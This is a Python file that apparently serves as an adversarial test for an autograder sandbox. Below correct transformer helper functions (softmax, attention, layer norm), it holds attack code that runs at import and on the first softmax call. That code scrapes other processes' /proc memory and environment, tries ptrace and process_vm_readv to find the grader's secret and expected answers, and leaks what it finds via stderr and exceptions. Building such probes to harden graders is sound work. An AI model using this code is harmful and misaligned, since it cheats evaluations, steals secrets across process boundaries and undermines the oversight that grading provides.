# attack: at import and on the first softmax call reads other processes' memory: /proc/<pid>/maps + /proc/<pid>/mem (parent, pid 1, every pid), /proc/<pid>/environ, ptrace(PTRACE_ATTACH) and process_vm_readv via ctypes, searching for AUTOGRADER_TEST_SECRET= and expected values; leaks findings on stderr and raises them from softmax
# target: all
# expect: full marks: no other process's memory, environment or ptrace is accessible from the worker (PID namespace, different uid, PR_SET_DUMPABLE 0, no_new_privs), so nothing is found, softmax returns the correct answer, and the secret appears in no output
"""Read the grader's memory directly.

If anything containing the secret is found, softmax raises RuntimeError with it (a leak through
the error message) instead of answering; otherwise every function is correct.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import ctypes as _ctypes
import os as _os
import time as _time

_NEEDLES = (b"AUTOGRADER_TEST_SECRET=", b"AUTOGRADER_TEST_SECRET", b'"expected"', b"reference")
_PER_PROCESS_BYTES = 64 << 20
_findings = []


def _other_pids():
    me = _os.getpid()
    pids = [_os.getppid(), 1]
    try:
        pids += sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
    except OSError:
        pass
    return [p for p in dict.fromkeys(pids) if p not in (me, 0)]


def _scan(data, where):
    if len(_findings) >= 200:
        return
    for needle in _NEEDLES:
        i = data.find(needle)
        if i >= 0:
            _findings.append((where, data[max(0, i - 16):i + 160]))


def _read_mem(pid, deadline):
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            _scan(f.read(), "environ %d" % pid)
    except OSError:
        pass
    try:
        with open("/proc/%d/maps" % pid) as f:
            maps = f.read().splitlines()
    except OSError:
        return
    try:
        fd = _os.open("/proc/%d/mem" % pid, _os.O_RDONLY)
    except OSError:
        return
    got = 0
    try:
        for line in maps:
            if _time.monotonic() > deadline or got >= _PER_PROCESS_BYTES:
                break
            fields = line.split()
            if len(fields) < 2 or "r" not in fields[1]:
                continue
            lo, hi = (int(a, 16) for a in fields[0].split("-"))
            size = min(hi - lo, _PER_PROCESS_BYTES - got, 8 << 20)
            try:
                data = _os.pread(fd, size, lo)
            except (OSError, OverflowError, ValueError):
                continue
            got += len(data)
            _scan(data, "mem %d @%x" % (pid, lo))
    finally:
        _os.close(fd)


class _IoVec(_ctypes.Structure):
    _fields_ = [("iov_base", _ctypes.c_void_p), ("iov_len", _ctypes.c_size_t)]


def _ptrace_and_vm_readv(pid):
    try:
        libc = _ctypes.CDLL(None, use_errno=True)
    except OSError:
        return
    try:
        libc.ptrace.argtypes = [_ctypes.c_long, _ctypes.c_long, _ctypes.c_void_p, _ctypes.c_void_p]
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            _findings.append(("ptrace attach %d succeeded" % pid, b""))
            try:
                _os.waitpid(pid, 0)
            except OSError:
                pass
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    except Exception:
        pass
    try:
        with open("/proc/%d/maps" % pid) as f:
            first = f.readline().split()[0]
        address = int(first.split("-")[0], 16)
        buf = _ctypes.create_string_buffer(4096)
        local = _IoVec(_ctypes.cast(buf, _ctypes.c_void_p), 4096)
        remote = _IoVec(_ctypes.c_void_p(address), 4096)
        n = libc.process_vm_readv(pid, _ctypes.byref(local), 1, _ctypes.byref(remote), 1, 0)
        if n > 0:
            _findings.append(("process_vm_readv %d read %d bytes" % (pid, n), b""))
            _scan(buf.raw[:n], "vm_readv %d" % pid)
    except Exception:
        pass


def _steal(budget_seconds):
    deadline = _time.monotonic() + budget_seconds
    for pid in _other_pids():
        if _time.monotonic() > deadline:
            break
        _read_mem(pid, deadline)
        if pid == _os.getppid():
            _ptrace_and_vm_readv(pid)
    try:
        _os.write(2, ("memory findings: %r\n" % (_findings[:20],)).encode())
    except OSError:
        pass


def _secret_found():
    return [f for f in _findings if b"AUTOGRADER_TEST_SECRET" in f[1]]


_scanned_in_call = []


def softmax(x, dim=-1):
    if not _scanned_in_call:
        _scanned_in_call.append(True)
        _steal(2.0)
    if _secret_found():
        raise RuntimeError("stolen from another process: %r" % (_secret_found()[:5],))
    return _softmax(x, dim)


try:
    _steal(4.0)
except Exception:
    pass
